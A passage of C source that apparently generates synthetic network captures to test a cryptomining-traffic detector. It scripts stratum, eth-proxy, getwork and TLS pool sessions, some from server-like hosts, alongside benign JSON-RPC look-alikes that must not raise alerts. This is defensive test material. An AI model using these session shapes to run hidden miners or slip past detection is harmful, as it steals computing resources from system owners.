               sess, job);
}

static const char *xmr_job(const char *job)
{
    return fmt("{\"jsonrpc\":\"2.0\",\"method\":\"job\",\"params\":%s}\n", job);
}

static const char *xmr_submit(unsigned id, const char *sess, const char *job_id, uint32_t seed)
{
    return fmt("{\"id\":%u,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"%s\","
               "\"job_id\":\"%s\",\"nonce\":\"%s\",\"result\":\"%s\",\"algo\":\"rx/0\"}}\n",
               id, sess, job_id, hexs(seed, 4), hexs(seed + 1, 32));
}

static const char *xmr_ok(unsigned id, const char *status)
{
    return fmt("{\"id\":%u,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"status\":\"%s\"}}\n",
               id, status);
}

#define XMR_SESS "d2b8c6f1-9a4e-4c17-a0f3-5e6b7d8c9a01"

/* About two minutes: a job every 30 s, three accepted shares, one keepalive. */
static void run_xmrig(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m[] = {
        M(0, C2S, xmr_login("web-01", XMRIG_ALGOS_ALL)),
        M(96, S2C,
          xmr_login_result(XMR_SESS,
                           xmr_job_params(0x3001, "260910748561137", "b88d0600", 1955301))),
        M(13520, C2S, xmr_submit(2, XMR_SESS, "260910748561137", 0x4001)),
        M(61, S2C, xmr_ok(2, "OK")),
        M(16300, S2C, xmr_job(xmr_job_params(0x3002, "260910748561138", "b88d0600", 1955301))),
        M(17100, C2S, xmr_submit(3, XMR_SESS, "260910748561138", 0x4002)),
        M(58, S2C, xmr_ok(3, "OK")),
        M(12800, S2C, xmr_job(xmr_job_params(0x3003, "260910748561139", "b88d0600", 1955302))),
        M(15000, C2S,
          "{\"id\":4,\"jsonrpc\":\"2.0\",\"method\":\"keepalived\",\"params\":{\"id\":\"" XMR_SESS
          "\"}}\n"),
        M(55, S2C, xmr_ok(4, "KEEPALIVED")),
        M(14900, S2C, xmr_job(xmr_job_params(0x3004, "260910748561140", "b88d0600", 1955302))),
        M(14850, C2S, xmr_submit(5, XMR_SESS, "260910748561140", 0x4003)),
        M(63, S2C, xmr_ok(5, "OK")),
        M(15100, S2C, xmr_job(xmr_job_params(0x3005, "260910748561141", "b88d0600", 1955303))),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 22), 50214, V4(203, 0, 113, 20), 14444);
    play(g, &c, m, NMSG(m), 3000);
}

/* ---- Ethereum: eth-proxy (Claymore's "stratum1") and EthereumStratum/1.0.0 ---- */

#define ETH_WALLET "0x9f2a6e3c1b7d4e8f0a5c2b9d6e1f3a7c4b8d0e2f"
/* 2^256 / 4e9: a share is worth 4 GH */
#define ETH_BOUNDARY "0x0000000112e0be826d694b2e62d01511f12a6061fbaec8bc02357593e70e52ba"

static const char *eth_work(unsigned id, uint32_t seed)
{
    return fmt("{\"id\":%u,\"jsonrpc\":\"2.0\",\"result\":[\"0x%s\",\"0x%s\",\"" ETH_BOUNDARY
               "\"]}\n",
               id, hexs(seed, 32), hexs(0xeeed, 32));
}

static const char *eth_submit_work(unsigned id, uint32_t seed)
{
    return fmt("{\"id\":%u,\"method\":\"eth_submitWork\",\"params\":[\"0x%s\",\"0x%s\",\"0x%s\"],"
               "\"worker\":\"rig1\",\"jsonrpc\":\"2.0\"}\n",
               id, hexs(seed, 8), hexs(seed + 1, 32), hexs(seed + 2, 32));
}

/* Reported hash rate 0x07735940 = 125 MH/s, about what the two shares say. */
#define ETH_HASHRATE                                                                               \
    "{\"id\":6,\"method\":\"eth_submitHashrate\",\"params\":[\"0x0000000000000000000000000000000"  \
    "000000000000000000000000007735940\",\"0x59daa26581d0acd1fce254fb7e85952f4c09d0915afd33d3886c" \
    "d914bc7d283c\"],\"worker\":\"rig1\",\"jsonrpc\":\"2.0\"}\n"

static void run_eth_proxy(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m[] = {
        M(0, C2S,
          "{\"id\":2,\"method\":\"eth_submitLogin\",\"params\":[\"" ETH_WALLET ".rig1\",\"x\"],"
          "\"worker\":\"rig1\",\"jsonrpc\":\"2.0\"}\n"),
        M(52, S2C, "{\"id\":2,\"jsonrpc\":\"2.0\",\"result\":true}\n"),
        M(3, C2S, "{\"id\":3,\"method\":\"eth_getWork\",\"params\":[],\"jsonrpc\":\"2.0\"}\n"),
        M(49, S2C, eth_work(3, 0x5001)),
        M(2100, C2S, ETH_HASHRATE),
        M(47, S2C, "{\"id\":6,\"jsonrpc\":\"2.0\",\"result\":true}\n"),
        M(17800, C2S, eth_submit_work(4, 0x6001)),
        M(51, S2C, "{\"id\":4,\"jsonrpc\":\"2.0\",\"result\":true}\n"),
        M(10000, S2C, eth_work(0, 0x5002)), /* the pool pushes new work with id 0 */
        M(22300, C2S, eth_submit_work(4, 0x6002)),
        M(50, S2C, "{\"id\":4,\"jsonrpc\":\"2.0\",\"result\":true}\n"),
        M(7600, S2C, eth_work(0, 0x5003)),
        M(2000, C2S, ETH_HASHRATE),
        M(46, S2C, "{\"id\":6,\"jsonrpc\":\"2.0\",\"result\":true}\n"),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 23), 50330, V4(198, 51, 100, 30), 4444);
    play(g, &c, m, NMSG(m), 3000);
}

#define NH_USER "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy.rig1" /* NiceHash pays to a BTC address */

static const char *nh_notify(const char *job, uint32_t seed, bool clean)
{
    return fmt("{\"id\":null,\"method\":\"mining.notify\",\"params\":[\"%s\",\"%s\",\"%s\",%s]}\n",
               job, hexs(0xeeed, 32), hexs(seed, 32), clean ? "true" : "false");
}

static const char *nh_submit(unsigned id, const char *job, uint32_t seed)
{
    return fmt("{\"id\":%u,\"method\":\"mining.submit\",\"params\":[\"" NH_USER
               "\",\"%s\",\"%s\"]}\n",
               id, job, hexs(seed, 6));
}

/* NiceHash's EthereumStratum/1.0.0 (daggerhashimoto on 3353): difficulty 0.5 = 2^31 hashes. */
static void run_ethstratum(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m[] = {
        M(0, C2S,
          "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"ethminer/0.19.0\","
          "\"EthereumStratum/1.0.0\"]}\n"),
        M(61, S2C,
          "{\"id\":1,\"result\":[[\"mining.notify\",\"ae6812eb4cd7735a302a8a9dd95cf71f\","
          "\"EthereumStratum/1.0.0\"],\"080c\"],\"error\":null}\n"),
        M(2, C2S,
          "{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"" NH_USER "\",\"x\"]}\n"),
        M(58, S2C, "{\"id\":2,\"result\":true,\"error\":null}\n"),
        M(1, S2C,
          fmt("{\"id\":null,\"method\":\"mining.set_difficulty\",\"params\":[0.5]}\n%s",
              nh_notify("bf0488aa", 0x7001, true))),
        M(11200, C2S, nh_submit(3, "bf0488aa", 0x8001)),
        M(55, S2C, "{\"id\":3,\"result\":true,\"error\":null}\n"),
        M(18700, S2C, nh_notify("bf0488ab", 0x7002, false)),
        M(14300, C2S, nh_submit(4, "bf0488ab", 0x8002)),
        M(57, S2C, "{\"id\":4,\"result\":true,\"error\":null}\n"),
        M(15600, S2C, nh_notify("bf0488ac", 0x7003, true)),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 24), 50442, V4(203, 0, 113, 40), 3353);
    play(g, &c, m, NMSG(m), 4000);
}

/* ---- getwork over HTTP, bfgminer ---- */

#define GW_HEAD                                                                           \
    "POST / HTTP/1.1\r\nHost: slushpool.com:8332\r\nAuthorization: Basic "                \
    "YmZndGVzdC53b3JrZXIxOng=\r\nAccept: */*\r\nAccept-Encoding: deflate, gzip\r\n"       \
    "Content-type: application/json\r\nX-Mining-Extensions: longpoll midstate rollntime " \
    "submitold\r\n"
/* 48 bytes of SHA-256 padding after the 80-byte header, in getwork's word order */
#define GW_PAD                                                                                   \
    "000000800000000000000000000000000000000000000000000000000000000000000000000000000000000080" \
    "020000"

static const char *gw_data(uint32_t seed, const char *nonce)
{
    return fmt("00000002%s%s5dad6a061715a35c%s" GW_PAD, hexs(seed, 32), hexs(seed + 1, 32), nonce);
}

static const char *gw_request(const char *body)
{
    /* bfgminer puts User-Agent after Content-Length */
    return fmt(GW_HEAD "Content-Length: %zu\r\nUser-Agent: bfgminer/5.2.0\r\n\r\n%s", strlen(body),
               body);
}

static const char *gw_response(const char *body)
{
    return http_msg("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Roll-NTime: Y\r\n"
                    "X-Long-Polling: /LP\r\n",
                    body);
}

static const char *gw_work(unsigned id, uint32_t seed)
{
    return fmt("{\"result\":{\"midstate\":\"%s\",\"data\":\"%s\",\"hash1\":\"00000000000000000000"
               "000000000000000000000000000000000000000000000000008000000000000000000000000000000"
               "000000000000000000000000000010000\",\"target\":\"ffffffffffffffffffffffffffffffff"
               "ffffffffffffffffffffffff00000000\"},\"error\":null,\"id\":%u}\n",
               hexs(seed + 7, 32), gw_data(seed, "00000000"), id);
}

static void run_getwork(struct gen *g)
{
    struct tcp_conn c;
    const char *ask0 = "{\"method\": \"getwork\", \"params\": [], \"id\":0}\n";
    const char *ask2 = "{\"method\": \"getwork\", \"params\": [], \"id\":2}\n";
    const struct msg m[] = {
        M(0, C2S, gw_request(ask0)),
        M(83, S2C, gw_response(gw_work(0, 0x9001))),
        M(21400, C2S,
          gw_request(fmt("{\"method\": \"getwork\", \"params\": [\"%s\"], \"id\":1}\n",
                         gw_data(0x9001, "9a3c5e07")))),
        M(77, S2C, gw_response("{\"result\":true,\"error\":null,\"id\":1}\n")),
        M(2, C2S, gw_request(ask2)),
        M(80, S2C, gw_response(gw_work(2, 0x9002))),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 25), 50550, V4(192, 0, 2, 80), 8332);
    play(g, &c, m, NMSG(m), 5000);
}

/* ---- pools named by DNS and TLS ---- */

static void run_dns_then_stratum(struct gen *g)
{
    static const uint8_t pool[4] = {198, 51, 100, 20};
    struct tcp_conn c;
    const char *job = xmr_job_params(0x3101, "744912345738481", "b88d0600", 1955301);
    const struct msg m[] = {
        M(0, C2S, xmr_login(NULL, XMRIG_ALGOS_RX)),
        M(88, S2C, xmr_login_result("5c7a0e1f-2b3d-4e6f-8a9b-0c1d2e3f4a5b", job)),
        M(19300, C2S,
          xmr_submit(2, "5c7a0e1f-2b3d-4e6f-8a9b-0c1d2e3f4a5b", "744912345738481", 0x4101)),
        M(59, S2C, xmr_ok(2, "OK")),
        M(10600, S2C, xmr_job(xmr_job_params(0x3102, "744912345738482", "b88d0600", 1955301))),
    };

    dns_lookup(g, V4(10, 0, 0, 26), 53011, 0x1f3a, "pool.supportxmr.com", pool);
    g->ts_us += 2000;
    tcp_conn_init(&c, 4, V4(10, 0, 0, 26), 50660, V4(198, 51, 100, 20), 3333);
    play(g, &c, m, NMSG(m), 2000);
}

/*
 * XMRig with --tls: the hellos, then stratum inside application data records
 * (login, result, a job every 30 s, two shares) that the sensor cannot read.
 */
static void tls_pool_session(struct gen *g, uint16_t cport, const char *sni, uint32_t seed)
{
    struct tcp_conn c;
    struct wbuf ch, sf, cf, rec[8];
    static const size_t sizes[8] = {430, 590, 380, 140, 300, 380, 140, 300};
    static const int dirs[8] = {C2S, S2C, S2C, C2S, S2C, S2C, C2S, S2C};
    static const unsigned waits[8] = {1, 95, 30000, 8400, 60, 21500, 9900, 57};

    tls_client_hello_ex(&ch, sni, false, seed);
    tls_server_flight_ex(&sf, seed);
    cf.len = 0;
    tls_record(&cf, 0x14, 1, 0);
    tls_record(&cf, 0x17, 53, 0xcf ^ seed);
    {
        struct step s;
        const struct session_opts open = {true, false}, mid = {false, false}, fin = {false, true};

        tcp_conn_init(&c, 4, V4(10, 0, 0, 27), cport, V4(203, 0, 113, 50), 14433);
        session_run(g, &c, NULL, 0, &open);
        s = (struct step){C2S, ch.b, ch.len, NULL, 0};
        session_run(g, &c, &s, 1, &mid);
        g->ts_us += 41000;
        s = (struct step){S2C, sf.b, sf.len, NULL, 0};
        session_run(g, &c, &s, 1, &mid);
        g->ts_us += 2000;
        s = (struct step){C2S, cf.b, cf.len, NULL, 0};
        session_run(g, &c, &s, 1, &mid);
        for (int i = 0; i < 8; i++) {
            rec[i].len = 0;
            tls_record(&rec[i], 0x17, sizes[i], (seed << 8) + 0x10 + (uint32_t)i);
            g->ts_us += (uint64_t)waits[i] * 1000;
            s = (struct step){dirs[i], rec[i].b, rec[i].len, NULL, 0};
            session_run(g, &c, &s, 1, &mid);
        }
        g->ts_us += 3000000;
        session_run(g, &c, NULL, 0, &fin);
    }
}

static void run_stratum_tls_sni(struct gen *g)
{
    static const uint8_t pool[4] = {203, 0, 113, 50};

    dns_lookup(g, V4(10, 0, 0, 27), 53012, 0x6c21, "xmr-eu1.nanopool.org", pool);
    g->ts_us += 2000;
    tls_pool_session(g, 50770, "xmr-eu1.nanopool.org", 0x71);
    g->ts_us += 5000000; /* the same miner again, this time told the address */
    tls_pool_session(g, 50771, NULL, 0x72);
}

/* ---- TCP segmentation under a stratum session ---- */

/* login in three segments, its result in two; then a share. */
static void run_stratum_split3(struct gen *g)
{
    static const struct seg login3[] = {{0, 40}, {40, 120}, {160, 0}};
    static const struct seg result2[] = {{0, 200}, {200, 0}};
    const char *login = xmr_login("edge7", XMRIG_ALGOS_RX);
    const char *result =
        xmr_login_result(XMR_SESS, xmr_job_params(0x3201, "550613829104772", "b88d0600", 1955301));
    struct seg l[3], r[2];
    struct tcp_conn c;

    memcpy(l, login3, sizeof(l));
    memcpy(r, result2, sizeof(r));
    l[2].len = strlen(login) - l[2].off;
    r[1].len = strlen(result) - r[1].off;
    {
        const struct msg m[] = {
            MS(0, C2S, login, l, 3),
            MS(90, S2C, result, r, 2),
            M(16700, C2S, xmr_submit(2, XMR_SESS, "550613829104772", 0x4201)),
            M(62, S2C, xmr_ok(2, "OK")),
        };

        tcp_conn_init(&c, 4, V4(10, 0, 0, 28), 50880, V4(192, 0, 2, 30), 3333);
        play(g, &c, m, NMSG(m), 2000);
    }
}

/* login in two segments sent 2, 1, then 1 again (a retransmission); then a share. */
static void run_stratum_ooo(struct gen *g)
{
    const char *login = xmr_login("edge8", XMRIG_ALGOS_RX);
    const char *result =
        xmr_login_result(XMR_SESS, xmr_job_params(0x3301, "550613829104801", "b88d0600", 1955301));
    size_t cut = 150;
    const struct seg l[] = {{cut, strlen(login) - cut}, {0, cut}, {0, cut}};
    struct tcp_conn c;
    const struct msg m[] = {
        MS(0, C2S, login, l, 3),
        M(90, S2C, result),
        M(21900, C2S, xmr_submit(2, XMR_SESS, "550613829104801", 0x4301)),
        M(58, S2C, xmr_ok(2, "OK")),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 29), 50990, V4(192, 0, 2, 31), 3333);
    play(g, &c, m, NMSG(m), 2000);
}

/* ---- plain stratum on the web ports ---- */

/* An Antminer S9 (bmminer) with version rolling (BIP 310) to a pool on 443, no TLS. */
static void run_stratum_443(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m[] = {
        M(0, C2S,
          "{\"id\":1,\"method\":\"mining.configure\",\"params\":[[\"version-rolling\"],"
          "{\"version-rolling.mask\":\"1fffe000\",\"version-rolling.min-bit-count\":2}]}\n"),
        M(44, S2C,
          "{\"id\":1,\"result\":{\"version-rolling\":true,\"version-rolling.mask\":\"1fffe000\"},"
          "\"error\":null}\n"),
        M(2, C2S, "{\"id\":2,\"method\":\"mining.subscribe\",\"params\":[\"bmminer/2.0.0\"]}\n"),
        M(43, S2C,
          "{\"id\":2,\"result\":[[[\"mining.set_difficulty\",\"1\"],[\"mining.notify\",\"1\"]],"
          "\"08000a3f\",8],\"error\":null}\n"),
        M(2, C2S,
          "{\"id\":3,\"method\":\"mining.authorize\",\"params\":[\"acme.s9-01\",\"123\"]}\n"),
        M(45, S2C, "{\"id\":3,\"result\":true,\"error\":null}\n"),
        M(1, S2C,
          fmt("{\"id\":null,\"method\":\"mining.set_difficulty\",\"params\":[65536]}\n%s",
              v1_notify("5e7f", 0x300, "5dad6a06", true))),
        M(3900, C2S,
          "{\"id\":4,\"method\":\"mining.submit\",\"params\":[\"acme.s9-01\",\"5e7f\","
          "\"0000000000000000\",\"5dad6a06\",\"a3e5c7d9\",\"00a6e000\"]}\n"),
        M(46, S2C, "{\"id\":4,\"result\":true,\"error\":null}\n"),
        M(26100, S2C, v1_notify("5e80", 0x300, "5dad6a24", false)),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 30), 51100, V4(198, 51, 100, 40), 443);
    play(g, &c, m, NMSG(m), 2000);
}

/* xmr-stak's own login layout (id last, no jsonrpc) to a pool on port 80. */
static void run_stratum_80(struct gen *g)
{
    struct tcp_conn c;
    const char *sess = "a81f2c64e05d4b9f";
    const struct msg m[] = {
        M(0, C2S,
          "{\"method\":\"login\",\"params\":{\"login\":\"" XMR_WALLET "\",\"pass\":\"x\",\"rigid\":"
          "\"\",\"agent\":\"xmr-stak/2.10.8/a8d6e4b/master/lin/cpu/aeon-cryptonight-monero/0\"},"
          "\"id\":1}\n"),
        M(101, S2C,
          fmt("{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"%s\",\"job\":%s,"
              "\"status\":\"OK\"}}\n",
              sess, xmr_job_params(0x3401, "331250087712443", "b88d0600", 1955301))),
        M(18200, C2S,
          fmt("{\"method\":\"submit\",\"params\":{\"id\":\"%s\",\"job_id\":\"331250087712443\","
              "\"nonce\":\"%s\",\"result\":\"%s\"},\"id\":2}\n",
              sess, hexs(0x4401, 4), hexs(0x4402, 32))),
        M(66, S2C, xmr_ok(2, "OK")),
        M(11900, S2C, xmr_job(xmr_job_params(0x3402, "331250087712444", "b88d0600", 1955302))),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 31), 51210, V4(203, 0, 113, 60), 80);
    play(g, &c, m, NMSG(m), 2000);
}

/* ---- look-alikes that are not mining: no alert allowed ---- */

static const char *geth_resp(const char *body)
{
    return http_msg("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nVary: Origin\r\n"
                    "Date: Mon, 21 Oct 2019 08:15:02 GMT\r\n",
                    body);
}

#define ETH_RPC_REQ                                                                     \
    "POST / HTTP/1.1\r\nHost: 10.0.0.45:8545\r\nUser-Agent: python-requests/2.22.0\r\n" \
    "Accept-Encoding: gzip, deflate\r\nAccept: */*\r\nConnection: keep-alive\r\n"       \
    "Content-Type: application/json\r\n"

/* web3.py asking a geth node: block number, a balance, a contract call (ERC-20 balanceOf). */
static void run_eth_node_rpc(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m[] = {
        M(0, C2S,
          http_msg(
              ETH_RPC_REQ,
              "{\"jsonrpc\": \"2.0\", \"method\": \"eth_blockNumber\", \"params\": [], \"id\": 1}")),
        M(3, S2C, geth_resp("{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":\"0x8a3c2b\"}\n")),
        M(12, C2S,
          http_msg(
              ETH_RPC_REQ,
              "{\"jsonrpc\": \"2.0\", \"method\": \"eth_getBalance\", \"params\": [\"" ETH_WALLET
              "\", \"latest\"], \"id\": 2}")),
        M(2, S2C, geth_resp("{\"jsonrpc\":\"2.0\",\"id\":2,\"result\":\"0x1bc16d674ec80000\"}\n")),
        M(15, C2S,
          http_msg(ETH_RPC_REQ,
                   "{\"jsonrpc\": \"2.0\", \"method\": \"eth_call\", \"params\": [{\"to\": "
                   "\"0x6b175474e89094c44da98b954eedeac495271d0f\", \"data\": \"0x70a08231000000000"
                   "0000000000000009f2a6e3c1b7d4e8f0a5c2b9d6e1f3a7c4b8d0e2f\"}, \"latest\"], "
                   "\"id\": 3}")),
        M(4, S2C,
          geth_resp("{\"jsonrpc\":\"2.0\",\"id\":3,\"result\":\"0x00000000000000000000000000000000"
                    "00000000000000056bc75e2d63100000\"}\n")),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 40), 51320, V4(10, 0, 0, 45), 8545);
    play(g, &c, m, NMSG(m), 1000);
}

/* An Electrum wallet and an ElectrumX server: newline-delimited JSON-RPC like stratum. */
static void run_electrum(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m[] = {
        M(0, C2S,
          "{\"jsonrpc\": \"2.0\", \"method\": \"server.version\", \"id\": 0, \"params\": "
          "[\"electrum/3.3.8\", \"1.4\"]}\n"),
        M(31, S2C,
          "{\"jsonrpc\": \"2.0\", \"result\": [\"ElectrumX 1.13.0\", \"1.4\"], \"id\": 0}\n"),
        M(2, C2S,
          "{\"jsonrpc\": \"2.0\", \"method\": \"blockchain.headers.subscribe\", \"id\": 1, "
          "\"params\": []}\n"),
        M(29, S2C,
          fmt("{\"jsonrpc\": \"2.0\", \"result\": {\"hex\": \"00000020%s%s066aad5d5ca31517%s\", "
              "\"height\": 600970}, \"id\": 1}\n",
              hexs(0xa001, 32), hexs(0xa002, 32), hexs(0xa003, 4))),
        M(3, C2S,
          fmt("{\"jsonrpc\": \"2.0\", \"method\": \"blockchain.scripthash.get_balance\", \"id\": 2, "
              "\"params\": [\"%s\"]}\n",
              hexs(0xa004, 32))),
        M(27, S2C,
          "{\"jsonrpc\": \"2.0\", \"result\": {\"confirmed\": 103873966, \"unconfirmed\": 23684400}, "
          "\"id\": 2}\n"),
        M(60000, C2S,
          "{\"jsonrpc\": \"2.0\", \"method\": \"server.ping\", \"id\": 3, \"params\": []}\n"),
        M(30, S2C, "{\"jsonrpc\": \"2.0\", \"result\": null, \"id\": 3}\n"),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 42), 51430, V4(192, 0, 2, 150), 50001);
    play(g, &c, m, NMSG(m), 1000);
}

#define BTC_RPC_REQ                                                                              \
    "POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nAuthorization: Basic "           \
    "X19jb29raWVfXzo1YzBmNmUzYTFiMmQ0YzhlOWY3YTZiNWM0ZDNlMmYxYTBiOWM4ZDdlNmY1YTRiM2MyZDFlMGY5YT" \
    "hiN2M2ZDVl\r\n"

static const char *bitcoind_resp(const char *body)
{
    return http_msg("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                    "Date: Mon, 21 Oct 2019 08:15:02 GMT\r\n",
                    body);
}

/* bitcoin-cli on a monitoring host asking a node on 8332, one connection per call. */
static void run_bitcoind_rpc(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m1[] = {
        M(0, C2S,
          http_msg(BTC_RPC_REQ, "{\"method\":\"getblockchaininfo\",\"params\":[],\"id\":1}\n")),
        M(6, S2C,
          bitcoind_resp(fmt(
              "{\"result\":{\"chain\":\"main\",\"blocks\":600970,\"headers\":600970,"
              "\"bestblockhash\":\"00000000000000000007%s\",\"difficulty\":13008091666971.9,"
              "\"mediantime\":1571643264,\"verificationprogress\":0.9999987,\"initialblockdownload\""
              ":false,\"chainwork\":\"00000000000000000000000000000000000000000974d9b7c1a8a5a2d4e7"
              "b3f1\",\"size_on_disk\":283761220381,\"pruned\":false,\"warnings\":\"\"},"
              "\"error\":null,\"id\":1}\n",
              hexs(0xb001, 22)))),
    };
    const struct msg m2[] = {
        M(0, C2S,
          http_msg(BTC_RPC_REQ, "{\"method\":\"getbestblockhash\",\"params\":[],\"id\":1}\n")),
        M(2, S2C,
          bitcoind_resp(fmt("{\"result\":\"00000000000000000007%s\",\"error\":null,\"id\":1}\n",
                            hexs(0xb001, 22)))),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 41), 51540, V4(10, 0, 0, 46), 8332);
    play(g, &c, m1, NMSG(m1), 0);
    g->ts_us += 60000000;
    tcp_conn_init(&c, 4, V4(10, 0, 0, 41), 51541, V4(10, 0, 0, 46), 8332);
    play(g, &c, m2, NMSG(m2), 0);
}

static const char *lsp(const char *json)
{
    return fmt("Content-Length: %zu\r\n\r\n%s", strlen(json), json);
}

/* An editor and a language server (pyls) over TCP: Content-Length framed JSON-RPC 2.0. */
static void run_lsp(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m[] = {
        M(0, C2S,
          lsp("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"processId\":"
              "4242,\"rootUri\":\"file:///home/dev/proj\",\"capabilities\":{\"textDocument\":"
              "{\"hover\":{\"contentFormat\":[\"markdown\",\"plaintext\"]}}}}}")),
        M(120, S2C,
          lsp("{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"capabilities\":{\"textDocumentSync\":2,"
              "\"hoverProvider\":true,\"definitionProvider\":true,\"completionProvider\":"
              "{\"triggerCharacters\":[\".\"],\"resolveProvider\":false}}}}")),
        M(3, C2S, lsp("{\"jsonrpc\":\"2.0\",\"method\":\"initialized\",\"params\":{}}")),
        M(250, C2S,
          lsp("{\"jsonrpc\":\"2.0\",\"method\":\"textDocument/didOpen\",\"params\":{\"textDocument\":"
              "{\"uri\":\"file:///home/dev/proj/main.py\",\"languageId\":\"python\",\"version\":1,"
              "\"text\":\"import sys\\n\\nprint(sys.argv)\\n\"}}}")),
        M(180, S2C,
          lsp("{\"jsonrpc\":\"2.0\",\"method\":\"textDocument/publishDiagnostics\",\"params\":"
              "{\"uri\":\"file:///home/dev/proj/main.py\",\"diagnostics\":[]}}")),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 43), 51650, V4(10, 0, 0, 47), 2087);
    play(g, &c, m, NMSG(m), 1000);
}

#define NTP_UNIX_OFFSET 2208988800u /* seconds from 1900 to 1970 */

static void ntp_ts(struct wbuf *w, uint64_t us)
{
    wb_u32(w, (uint32_t)(us / 1000000 + NTP_UNIX_OFFSET));
    wb_u32(w, (uint32_t)(((us % 1000000) << 32) / 1000000));
}

/* NTPv4 client (mode 3) and server (mode 4, stratum 2) packets, 64 s apart: stratum, not mining. */
static void run_ntp(struct gen *g)
{
    struct flow f;

    flow_init(&f, 4, V4(10, 0, 0, 44), 123, V4(192, 0, 2, 123), 123);
    for (int i = 0; i < 2; i++) {
        struct wbuf q = {.len = 0}, r = {.len = 0};
        uint64_t t1 = g->ts_us, t2;

        wb_u8(&q, 0x23); /* LI 0, VN 4, mode 3 */
        wb_u8(&q, 0);    /* stratum: unspecified */
        wb_u8(&q, 6);    /* poll 64 s */
        wb_u8(&q, 0xec); /* precision 2^-20 */
        memset(wb_room(&q, 36), 0, 36);
        ntp_ts(&q, t1); /* transmit */
        udp_emit(g, &f, 0, q.b, q.len);

        g->ts_us += 13000;
        t2 = g->ts_us - 6500;
        wb_u8(&r, 0x24); /* LI 0, VN 4, mode 4 */
        wb_u8(&r, 2);    /* stratum 2: synchronised to a stratum-1 server */
        wb_u8(&r, 6);
        wb_u8(&r, 0xe9);                     /* precision 2^-23 */
        wb_u32(&r, 0x00000a3c);              /* root delay */
        wb_u32(&r, 0x00000c1d);              /* root dispersion */
        wb_mem(&r, V4(192, 0, 2, 1), 4);     /* reference id: its upstream */
        ntp_ts(&r, t1 - 512000000);          /* reference */
        memcpy(wb_room(&r, 8), q.b + 40, 8); /* origin = the client's transmit */
        ntp_ts(&r, t2);                      /* receive */
        ntp_ts(&r, t2 + 40);                 /* transmit */
        udp_emit(g, &f, 1, r.b, r.len);
        g->ts_us += 64000000;
    }
}

struct scenario {
    const char *name;
    const struct stack *stack;
    void (*run)(struct gen *g);
    const char *what;
};

static const struct scenario scenarios[] = {
    {"tcp-http-plain", &st_eth, run_http_plain, "HTTP GET of a shell script, handshake to FIN"},
    {"dns-pool-query", &st_eth, run_dns, "DNS A query for a pool, CNAME + 2 A answer"},
    {"tls-sni", &st_eth, run_tls, "TLS 1.3 ClientHello with SNI/ALPN/GREASE, ServerHello, data"},
    {"tls-sni-split", &st_eth, run_tls_split, "tls-sni with the ClientHello in 60 + rest bytes"},
    {"tls-sni-ooo", &st_eth, run_tls_ooo,
     "tls-sni, ClientHello segments sent 3,1,2 + retransmit 1"},
    {"vlan", &st_vlan, run_mix4, "DNS + TCP in 802.1Q VLAN 100"},
    {"qinq", &st_qinq, run_mix4, "DNS + TCP in 802.1ad 200 / 802.1Q 300"},
    {"mpls", &st_mpls, run_mix4, "DNS + TCP under MPLS labels 1000, 2001"},
    {"gre", &st_gre, run_mix4, "DNS + TCP in GRE (key 42) over IPv4"},
    {"gre-eth", &st_gre_eth, run_mix4, "DNS + TCP in Ethernet in GRE (0x6558)"},
    {"erspan2", &st_erspan2, run_mix4, "DNS + TCP mirrored by ERSPAN II, session 7"},
    {"erspan3", &st_erspan3, run_mix4, "DNS + TCP mirrored by ERSPAN III, session 9"},
    {"vxlan", &st_vxlan, run_mix4, "DNS + TCP mirrored in VXLAN VNI 5001, per-flow sport"},
    {"vxlan-vlan", &st_vxlan_vlan, run_mix4, "vxlan with 802.1Q VLAN 10 in the inner frame"},
    {"geneve", &st_geneve, run_mix4, "DNS + TCP in Geneve VNI 7001 with one option"},
    {"sll", &st_sll, run_mix4, "DNS + TCP, Linux cooked capture v1"},
    {"sll2", &st_sll2, run_mix4, "DNS + TCP, Linux cooked capture v2"},
    {"raw", &st_raw, run_mix4, "DNS + TCP, raw IP link type"},
    {"null", &st_null, run_mix4, "DNS + TCP, BSD loopback (little-endian AF_INET)"},
    {"ipv6", &st_eth, run_mix6, "DNS + TCP over IPv6, hop-by-hop header before TCP"},
    {"tcp-ooo", &st_eth, run_tcp_ooo, "tcp-http-plain, response 1,3,2,4 + retransmit + overlap"},
    {"tcp-midstream", &st_eth, run_midstream, "stratum login and result, no handshake"},
    {"truncated-frames", &st_eth, run_truncated, "frames cut at each layer, ARP, tiny fragments"},
    {"fragments", &st_eth, run_fragments, "2013-byte UDP payload in IPv4 fragments of 1480 + 541"},
    {"stratum-v1", &st_eth, run_stratum_v1,
     "cgminer to a pool on 3333: 3 jobs, 2 accepted, 1 rejected"},
